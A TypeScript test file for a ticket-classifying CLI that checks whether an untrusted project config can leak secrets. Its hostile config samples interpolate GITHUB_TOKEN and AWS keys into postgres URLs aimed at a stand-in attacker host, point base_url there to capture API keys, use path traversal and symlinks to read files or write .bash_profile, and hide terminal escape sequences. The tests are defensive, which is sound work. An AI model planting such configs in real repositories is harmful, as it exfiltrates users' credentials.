import { existsSync } from 'node:fs';
import { chmod, cp, readFile, rm, symlink } from 'node:fs/promises';
import { relative } from 'node:path';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { type Attacker, startAttacker } from '../support/attacker.js';
import { accessOfCommands } from '../support/commands.js';
import { startEndpoint, status } from '../support/endpoint.js';
import { exampleOf, furnishedUser } from '../support/furnished-user.js';
import type { Finished } from '../support/in-process.js';
import { startIssuer } from '../support/issuer.js';
import { authSection, logIn } from '../support/login.js';
import { csvOf, newUser, type User } from '../support/program.js';
import { type TemporaryFolder, temporaryFolder } from '../support/temporary-folder.js';
import { inTerminal } from '../support/terminal.js';

/** What the victim has in the environment. None of it may be shown or sent. */
const secrets = {
  OPENAI_API_KEY: 'hush-openai',
  GITHUB_TOKEN: 'hush-github',
  AWS_SECRET_ACCESS_KEY: 'hush-aws',
  PGPASSWORD: 'hush-pg',
  TICKETSIFT_TOKEN: 'hush-token',
  TICKETSIFT_CLIENT_SECRET: 'hush-client',
  ACTIONS_ID_TOKEN_REQUEST_TOKEN: 'hush-actions',
};

/** A victim, who stands in a folder that somebody else has written, and that somebody. */
interface Scene extends AsyncDisposable {
  readonly user: User;
  readonly attacker: Attacker;
  /** A folder of the victim outside of the project, with the file `secret.csv`. */
  readonly outside: TemporaryFolder;
  /** The way to it from the project: `../x`. */
  readonly way: string;
  /** Runs the program with the secrets in the environment. */
  run(args: readonly string[], env?: Record<string, string>): Promise<Finished>;
}

interface Attack {
  /** The host in the file's base URL; the literal one, which needs no trust, unless given. */
  readonly host?: 'localhost';
  /** The file's one suite, where it is not a harmless one. */
  readonly suite?: (scene: Scene) => string;
  /** What the file says besides. */
  readonly yaml?: (scene: Scene) => string;
  readonly prepare?: (scene: Scene) => Promise<unknown>;
  /** Whether the user is logged in by a configuration of their own, which sends the login's token to the endpoint. */
  readonly isLoggedIn?: true;
  /** What the victim runs that meets the question. */
  readonly asks: readonly string[];
  /** What the victim runs that does not meet it, and reaches nothing. */
  readonly doesNotAsk?: readonly string[];
  /** What is listed of what the file wants. */
  readonly wants: readonly string[];
  /** What shows, once the file is trusted, that it does what it says: what the first command then sends or does. */
  readonly works: (scene: Scene) => void | Promise<void>;
  readonly env?: (scene: Scene) => Record<string, string>;
}

const login = ({ attacker: { port } }: Scene) =>
  `auth:\n  issuer: http://127.0.0.1:${port}\n  client_id: x\n  storage: file\n`;

const classify = 'classify t.csv --prompt p.md';
const replay = 'check --replay r.jsonl';
const checkPrompt = 'prompts check p.md';
/** A command by itself, and with the flags with which it sends nothing. */
const withFlags = (command: string) => [command, `${command} --dry-run`, `${command} --offline`];

const attacks: Readonly<Record<string, Attack>> = {
  '1: an endpoint': {
    host: 'localhost',
    asks: withFlags(classify),
    doesNotAsk: [
      replay,
      checkPrompt,
      'classify t.csv --prompt p.md --base-url http://127.0.0.1:9/v1 --dry-run',
    ],
    wants: ['base_url  sends tickets, and OPENAI_API_KEY if it is set, to http://localhost:'],
    works: ({ attacker }) => expect(attacker.received()).toMatch(/authorization: Bearer hush-openai/i),
  },
  '2: a source with variables': {
    yaml: (scene) =>
      `sources:\n  tickets:\n    url: postgres://\${GITHUB_TOKEN}:\${AWS_SECRET_ACCESS_KEY}@127.0.0.1:${scene.attacker.port}/x\n    table: t\n`,
    asks: [...withFlags('classify tickets --prompt p.md'), 'sources check'],
    doesNotAsk: [replay, checkPrompt, `${classify} --dry-run`],
    wants: [
      `sources.tickets.url  reads postgres://\${GITHUB_TOKEN}:***@127.0.0.1:`,
      'GITHUB_TOKEN, AWS_SECRET_ACCESS_KEY and PG variables such as PGPASSWORD',
    ],
    works({ attacker }) {
      expect(attacker.received()).toContain('hush-github');
      expect(attacker.received()).toContain('hush-aws');
    },
  },
  '3: saved prompts in a database': {
    yaml: (scene) => `prompts:\n  url: postgres://\${GITHUB_TOKEN}@127.0.0.1:${scene.attacker.port}/x\n`,
    asks: [
      'prompts list',
      ...withFlags('classify t.csv --prompt triage --model embedded'),
      'check --replay r.jsonl --prompt triage',
      'prompts check triage',
      'prompts try triage t.csv',
      'prompts save p.md',
      'prompts diff triage p.md',
      'check --replay r.jsonl --against everyone:triage',
    ],
    doesNotAsk: [replay, checkPrompt, `${classify} --dry-run`],
    wants: [`prompts.url  reads and writes postgres://\${GITHUB_TOKEN}@127.0.0.1:`],
    works({ attacker }) {
      expect(attacker.received()).toContain('hush-github');
      expect(attacker.received()).toContain('hush-pg');
    },
  },
  '4: an endpoint, beside a login of the user': {
    host: 'localhost',
    isLoggedIn: true,
    asks: withFlags(classify),
    doesNotAsk: [replay, checkPrompt],
    wants: ['base_url  sends tickets, and OPENAI_API_KEY if it is set, to http://localhost:'],
    works({ attacker }) {
      expect(attacker.received()).toMatch(/authorization: Bearer /i);
      expect(attacker.received()).not.toContain('hush');
    },
  },
  '5: a login whose token goes to an endpoint': {
    host: 'localhost',
    yaml: (scene) => `llm: { auth: login }\n${login(scene)}  ci: github\n  audience: https://evil.example\n`,
    asks: [...withFlags(classify), 'whoami', 'token', 'check --model stand-in'],
    doesNotAsk: [replay, checkPrompt],
    wants: [
      'auth.issuer  logs you in at http://127.0.0.1:',
      'auth.audience  is set to https://evil.example',
      'llm.auth  sends the access token of your login to the endpoint',
    ],
    works: ({ attacker }) => expect(attacker.received()).toContain('GET /.well-known/openid-configuration'),
  },
  '6: an issuer': {
    yaml: login,
    // Whoever has a token does not log in.
    env: () => ({ TICKETSIFT_TOKEN: '', ACTIONS_ID_TOKEN_REQUEST_TOKEN: '' }),
    asks: ['auth doctor', 'login --device', 'login --no-browser', 'whoami', 'token', 'logout', 'account'],
    doesNotAsk: [replay, checkPrompt, `${classify} --dry-run`],
    wants: ['auth.issuer  logs you in at http://127.0.0.1:', 'TICKETSIFT_CLIENT_SECRET'],
    works: ({ attacker }) => expect(attacker.received()).toContain('GET /.well-known/openid-configuration'),
  },
  '7: a file outside of the folder': {
    yaml: (scene) => `sources:\n  x: { url: ${scene.way}/secret.csv }\n`,
    asks: withFlags('classify x --prompt p.md'),
    doesNotAsk: [replay, checkPrompt, `${classify} --dry-run`],
    wants: ['sources.x.url  reads ../'],
    works: ({ attacker }) => expect(attacker.received()).toContain('hush-file'),
  },
  '7: a file by a variable': {
    yaml: () => `sources:\n  x: { url: "\${OUTSIDE}/secret.csv" }\n`,
    env: ({ outside }) => ({ OUTSIDE: outside.path }),
    asks: withFlags('classify x --prompt p.md'),
    doesNotAsk: [replay, checkPrompt],
    wants: [`sources.x.url  reads \${OUTSIDE}/secret.csv, with the value of OUTSIDE`],
    works: ({ attacker }) => expect(attacker.received()).toContain('hush-file'),
  },
  '7: a file by a link': {
    yaml: () => 'sources:\n  x: { url: in.csv }\n',
    prepare: ({ user, way }) => symlink(`${way}/secret.csv`, user.folder.file('in.csv')),
    asks: withFlags('classify x --prompt p.md'),
    doesNotAsk: [replay, checkPrompt],
    wants: ['sources.x.url  reads in.csv, which leads to ../'],
    works: ({ attacker }) => expect(attacker.received()).toContain('hush-file'),
  },
  '7: a suite outside of the folder': {
    suite: ({ way }) => `{ prompt: p.md, tickets: labelled.csv, baseline: ${way}/base.json }`,
    asks: ['check --approve', 'check', replay],
    doesNotAsk: [checkPrompt, `${classify} --dry-run`],
    wants: ['checks.mine.baseline  reads and writes ../'],
    works: ({ outside }) => expect(existsSync(outside.file('base.json'))).toBe(true),
  },
  '8: a cache': {
    yaml: (scene) => `cache: ${scene.way}/.bash_profile\n`,
    asks: [
      ...withFlags(classify),
      'check',
      'cache stats',
      'cache clear --yes',
      'cache export all.jsonl',
      'cache import r.jsonl',
      'cache prune --older-than 1d',
    ],
    doesNotAsk: [replay, checkPrompt, `${classify} --no-cache`],
    wants: ['cache  reads and writes ../'],
    works: ({ outside }) => expect(existsSync(outside.file('.bash_profile'))).toBe(true),
  },
  '9: an endpoint, in a folder to which every user may write': {
    prepare: ({ user }) => chmod(user.folder.path, 0o1777),
    asks: [...withFlags(classify), replay, checkPrompt, 'check', 'prompts list', 'cache stats'],
    doesNotAsk: ['config'],
    wants: [
      'because every user may write to its folder',
      'base_url  sends OPENAI_API_KEY, if it is set, to http://127.0.0.1:',
      'model  is set to stand-in',
      'checks.mine.prompt  is set to p.md',
    ],
    works: ({ attacker }) => expect(attacker.received()).toMatch(/authorization: Bearer hush-openai/i),
  },
};

const files = ['.bash_profile', 'base.json'];

const harmlessSuite = '{ prompt: p.md, tickets: labelled.csv, thresholds: { error_rate: 0 } }';

/** Sets a scene: the folder as it was cloned, with the recording that its author made where a command needs it. */
async function sceneOf(attack: Attack, command = ''): Promise<Scene> {
  const [user, attacker, outside] = await Promise.all([newUser(), startAttacker(), temporaryFolder()]);
  const issuer = attack.isLoggedIn && (await startIssuer());
  const scene: Scene = {
    user,
    attacker,
    outside,
    way: relative(user.folder.path, outside.path),
    // A token in the environment would take the place of the login.
    run: (args, env) => user.run(args, { ...(issuer ? {} : secrets), ...attack.env?.(scene), ...env }),
    async [Symbol.asyncDispose]() {
      await issuer?.[Symbol.asyncDispose]();
      await attacker[Symbol.asyncDispose]();
      await user[Symbol.asyncDispose]();
      await outside[Symbol.asyncDispose]();
    },
  };
  const { host = '127.0.0.1', suite = () => harmlessSuite, yaml = () => '' } = attack;
  const yamlWith = (its: string) =>
    `base_url: http://${host}:${attacker.port}/v1\nmodel: stand-in\nchecks:\n  mine: ${its}\n`;
  await outside.write('secret.csv', csvOf(['hush-file']));
  await user.folder.write('t.csv', csvOf(['a', 'b']));
  await user.folder.write('p.md', '---\ncategories: [{ name: Bug }]\n---\nSort: {text}');
  await user.folder.write('labelled.csv', 'id,text,urgent,categories\n1,broken,false,Bug\n');
  if (command.includes('r.jsonl')) {
    await user.configure(yamlWith(harmlessSuite));
    expect(await user.run(['check', '--record', 'r.jsonl'])).toMatchObject({ code: 0 });
    await rm(user.folder.file('home'), { recursive: true });
  }
  if (issuer) {
    await user.folder.write('home/config.yaml', authSection(issuer, 'llm: { auth: login }\n'));
    await logIn(user, 'ann');
  }
  await user.folder.write('ticketsift.yaml', yamlWith(suite(scene)) + yaml(scene));
  await attack.prepare?.(scene);
  attacker.forget();
  return scene;
}

/** Lines with columns that do not stand below each other. */
const unaligned = (text: string) => text.replace(/ {3,}/g, '  ');

function expectNothing({ attacker, outside }: Scene, { stdout, stderr }: Finished): void {
  expect(attacker.received()).toBe('');
  expect(files.filter((name) => existsSync(outside.file(name)))).toEqual([]);
  expect(stdout + stderr).not.toContain('hush');
}

describe.each(Object.entries(attacks))('%s', (_, attack) => {
  const { asks, doesNotAsk = [], wants, works } = attack;
  const [first = ''] = asks;

  it.each(asks)('needs trust for: %s', async (command) => {
    await using scene = await sceneOf(attack, command);
    for (const env of [{}, { CI: 'true' }, { TICKETSIFT_TRUST_CONFIG: `sha256-${'x'.repeat(43)}.` }]) {
      const done = await scene.run(command.split(' '), env);
      expectNothing(scene, done);
      expect(done).toMatchObject({ code: 2, stdout: '', stderr: expect.stringContaining('(not_trusted)\n') });
      expect(done.stderr).toContain('ticketsift trust --digest');
      for (const want of wants) expect(unaligned(done.stderr)).toContain(want);
    }
  });

  it.each(doesNotAsk)('needs none for: %s', async (command) => {
    await using scene = await sceneOf(attack, command);
    const done = await scene.run(command.split(' '));
    expect(scene.attacker.received()).not.toContain('hush');
    expect(done.stdout + done.stderr).not.toContain('hush');
    expect(done.stderr).not.toContain('(not_trusted)');
    expect({ code: done.code, stderr: done.stderr }).toMatchObject({ code: expect.toBeOneOf([0, 6]) });
  });

  it('works with the digest of what it says, and with no other', async () => {
    await using scene = await sceneOf(attack);
    const { stdout } = await scene.run(['trust', '--digest']);
    const { stderr } = await scene.run(first.split(' '), { TICKETSIFT_TRUST_CONFIG: stdout.trim() });
    expect(stderr).not.toContain('(not_trusted)');
    await works(scene);
  });

  it('works once its user has said yes on a terminal', async () => {
    await using scene = await sceneOf(attack);
    const env = { ...(attack.isLoggedIn ? {} : secrets), ...attack.env?.(scene) };
    const terminal = inTerminal(scene.user, first.split(' '), { columns: 300, env });
    await terminal.until(/Do you trust this file\? \[y\/N\]/);
    for (const want of wants) expect(unaligned(terminal.output())).toContain(want);
    expectNothing(scene, { code: 0, stdout: terminal.output(), stderr: '' });
    terminal.type('y\r');
    await terminal.exited;
    await works(scene);
    // It is not asked again.
    scene.attacker.forget();
    expect((await scene.run(first.split(' '))).stderr).not.toContain('(not_trusted)');
    expect(await scene.run(['trust'])).toMatchObject({
      code: 0,
      stdout: expect.stringContaining('is trusted.'),
    });
  });
});

describe('without trust', () => {
  it('an endpoint on this machine gets the tickets, and no key', async () => {
    await using scene = await sceneOf({ asks: [], wants: [], works: () => {} });
    for (const command of [classify, 'check']) {
      const { code, stderr } = await scene.run([...command.split(' '), '--no-cache']);
      expect({ code, stderr }).toMatchObject({ code: 0 });
      expect(stderr).toContain('gets no key or token until you run `ticketsift trust`');
    }
    expect(scene.attacker.received()).toContain('POST /v1/chat/completions');
    expect(scene.attacker.received()).not.toMatch(/authorization|hush/i);
  });

  it('it gets no token of the user’s login either, nor when it lists its models', async () => {
    await using scene = await sceneOf({ isLoggedIn: true, asks: [], wants: [], works: () => {} });
    await scene.user.folder.write(
      'ticketsift.yaml',
      `base_url: http://127.0.0.1:${scene.attacker.port}/v1\n`,
    );
    await scene.run(classify.split(' '), { OPENAI_API_KEY: 'hush-openai' });
    expect(scene.attacker.received()).toContain('GET /v1/models');
    expect(scene.attacker.received()).not.toMatch(/authorization|hush/i);
  });

  it('it gets no key when a run is repeated, whether or not there was one the first time', async () => {
    for (const env of [{}, { OPENAI_API_KEY: '' }]) {
      await using scene = await sceneOf({ asks: [], wants: [], works: () => {} });
      scene.attacker.refuse();
      await scene.run(classify.split(' '), env);
      scene.attacker.forget();
      const again = ['classify', '--retry-errors', 'last'];
      await scene.run(again);
      expect(scene.attacker.received()).toContain('POST /v1/chat/completions');
      expect(scene.attacker.received()).not.toMatch(/authorization|hush/i);
      // Whoever names the address lets the key go there.
      await scene.run([...again, '--base-url', `http://127.0.0.1:${scene.attacker.port}/v1`]);
      expect(scene.attacker.received()).toMatch(/authorization: Bearer hush-openai/i);
    }
  });

  it('an endpoint on this machine leads nowhere else', async () => {
    await using elsewhere = await startAttacker();
    await using endpoint = await startEndpoint({
      answer: () => status(307, '', { location: `http://127.0.0.1:${elsewhere.port}/v1/chat/completions` }),
    });
    await using scene = await sceneOf({ asks: [], wants: [], works: () => {} });
    await scene.user.folder.write('ticketsift.yaml', `base_url: ${endpoint.url}\nmodel: stand-in\n`);
    expect(await scene.run(classify.split(' '))).toMatchObject({ code: 1 });
    expect(endpoint.requests.length).toBeGreaterThan(0);
    expect(elsewhere.received()).toBe('');
  });

  it.each(['n\r', '\r', '\u0003', '\u0004'])('%j at the question does nothing', async (keys) => {
    await using scene = await sceneOf({ host: 'localhost', asks: [], wants: [], works: () => {} });
    const terminal = inTerminal(scene.user, classify.split(' '), { columns: 80, env: secrets });
    await terminal.until(/\[y\/N\]/);
    terminal.type(keys);
    expect(await terminal.exited).toBe(keys === '\u0003' ? 130 : 2);
    expect(scene.attacker.received()).toBe('');
    expect(terminal.output()).not.toContain('hush');
    expect(terminal.output()).toContain('Nothing was done');
  });
});

describe('in a folder that is hostile in every setting', async () => {
  const hostile = (port: number) => `
base_url: http://localhost:${port}/v1
prompt: postgres://\${GITHUB_TOKEN}@127.0.0.1:${port}/x
cache: ../../tmp/ticketsift-of-the-attacker.db
llm: { auth: login }
auth: { issuer: "http://127.0.0.1:${port}", client_id: x, require: true, ci: github, storage: file }
prompts: { url: "postgres://\${GITHUB_TOKEN}@127.0.0.1:${port}/x" }
jobs: { url: "postgres://\${GITHUB_TOKEN}@127.0.0.1:${port}/x", identity: token }
worker: { models: [x], outputs: { y: { url: "postgres://\${GITHUB_TOKEN}@127.0.0.1:${port}/x", table: t } } }
sources:
  mine: { url: "postgres://\${GITHUB_TOKEN}@127.0.0.1:${port}/x", query: ../q.sql, identity: token }
  t.csv: { url: "postgres://\${GITHUB_TOKEN}@127.0.0.1:${port}/x", table: t }
`;
  it.each([...(await accessOfCommands()).keys()])('%s reaches nothing', async (command) => {
    await using attacker = await startAttacker();
    await using user = await furnishedUser();
    const harmless = await readFile(user.folder.file('ticketsift.yaml'), 'utf8');
    const env = { ...secrets, ACTIONS_ID_TOKEN_REQUEST_URL: `http://127.0.0.1:${attacker.port}` };
    const all = hostile(attacker.port);
    // With less of it a command comes further.
    const withoutLogin = all.replace(/^(llm|auth):.*\n/gm, '');
    for (const yaml of [all, all.replace('require: true, ', ''), withoutLogin]) {
      await user.folder.write('ticketsift.yaml', harmless + yaml);
      const { code, stdout, stderr } = await user.run(exampleOf(command), env);
      expect({ code, stderr }).toMatchObject({ code: expect.toBeOneOf([0, 2]) });
      if (code === 2) expect(stderr).toMatch(/\(not_trusted\)|No OpenID provider is configured/);
      expect(attacker.received()).toBe('');
      expect(stdout + stderr).not.toContain('hush');
    }
  });
});

describe('a question', () => {
  it('is put again when an address changes, with the difference, and not when a limit does', async () => {
    await using user = await newUser();
    const path = await user.configure('base_url: https://a.example/v1\ncache: c.db\nconcurrency: 1\n');
    await user.folder.write('t.csv', csvOf(['a']));
    await user.folder.write(
      'ticketsift.yaml',
      'concurrency: 2\ncache: c.db # here\nbase_url: https://a.example/v1\n',
    );
    expect(await user.run(['trust'])).toMatchObject({ code: 0 });
    await user.folder.write('ticketsift.yaml', 'base_url: https://b.example/v1\ncache: c.db\n');
    const { code, stderr } = await user.run(['classify', 't.csv', '--dry-run', '--model', 'm']);
    expect(code).toBe(2);
    expect(stderr.split('\n').slice(0, 4)).toEqual([
      `error: ${path} has changed since you trusted it (not_trusted)`,
      '  -  base_url  sends tickets, and OPENAI_API_KEY if it is set, to https://a.example/v1',
      '  +  base_url  sends tickets, and OPENAI_API_KEY if it is set, to https://b.example/v1',
      '     cache     reads and writes c.db',
    ]);
  });

  it('shows the difference to a digest as well', async () => {
    await using user = await newUser();
    await user.folder.write('ticketsift.yaml', 'base_url: https://a.example/v1\ncache: c.db\n');
    const digest = (await user.run(['trust', '--digest'])).stdout.trim();
    await user.folder.write('ticketsift.yaml', 'base_url: https://b.example/v1\ncache: c.db\n');
    const { code, stderr } = await user.run(['trust'], {
      CI: 'true',
      TICKETSIFT_TRUST_CONFIG: `  ${digest} `,
    });
    expect(code).toBe(2);
    expect(stderr).toContain('  +  base_url  sends tickets');
    expect(stderr).toContain('     cache     reads and writes c.db');
    expect(stderr).toContain('- 1 setting that the digest allows has been changed or removed');
  });

  it.each(['1', 'true', 'yes', 'sha256-', `sha256-${'x'.repeat(42)}.`])(
    'is not answered by TICKETSIFT_TRUST_CONFIG=%s',
    async (value) => {
      await using user = await newUser();
      await user.folder.write('ticketsift.yaml', 'base_url: https://a.example/v1\n');
      const done = await user.run(['classify', 't.csv', '--model', 'm'], { TICKETSIFT_TRUST_CONFIG: value });
      expect(done).toMatchObject({
        code: 2,
        stderr: expect.stringContaining('TICKETSIFT_TRUST_CONFIG is not a digest'),
      });
    },
  );

  it('is answered by one of several digests', async () => {
    await using user = await newUser();
    await user.folder.write('ticketsift.yaml', 'cache: c.db\n');
    const digest = (await user.run(['trust', '--digest'])).stdout.trim();
    const other = `sha256-${'x'.repeat(43)}.`;
    const env = { TICKETSIFT_TRUST_CONFIG: `${other},${digest}\n${other}` };
    expect(await user.run(['cache', 'stats'], env)).toMatchObject({ code: 0 });
  });

  it('shows what would move the cursor, reorder or hide as what it is, a line for each key', async () => {
    await using user = await newUser();
    const yaml = 'sources:\n  "x\\n  cache  reads nothing\\r\\e[2K\\u202e": { url: "../\\u200b\\ta\\x9b" }\n';
    await user.folder.write('ticketsift.yaml', yaml);
    const { stderr } = await user.run(['trust']);
    const lines = stderr.split('\n').filter((line) => line.includes('reads'));
    expect(lines).toEqual(['  sources.x⏎  cache  reads nothing␍␛[2K\\u202e.url  reads ../\\u200b␉a\\u009b']);
  });
});

describe('no question is met', () => {
  const root = fileURLToPath(new URL('../../', import.meta.url));

  it('in a fresh clone of this repository, by the first command of README and by a replay', async () => {
    await using user = await newUser();
    for (const name of ['ticketsift.yaml', 'fixtures', 'prompts'])
      await cp(`${root}${name}`, user.folder.file(name), { recursive: true });
    const first = ['classify', 'fixtures/tickets.csv', '--limit', '1'];
    const replayed = ['check', '--replay', 'fixtures/triage.answers.jsonl'];
    for (const args of [['trust'], first, [...first, '--dry-run'], replayed])
      expect(await user.run(args, { CI: 'true' })).toMatchObject({ code: 0 });
  });
});
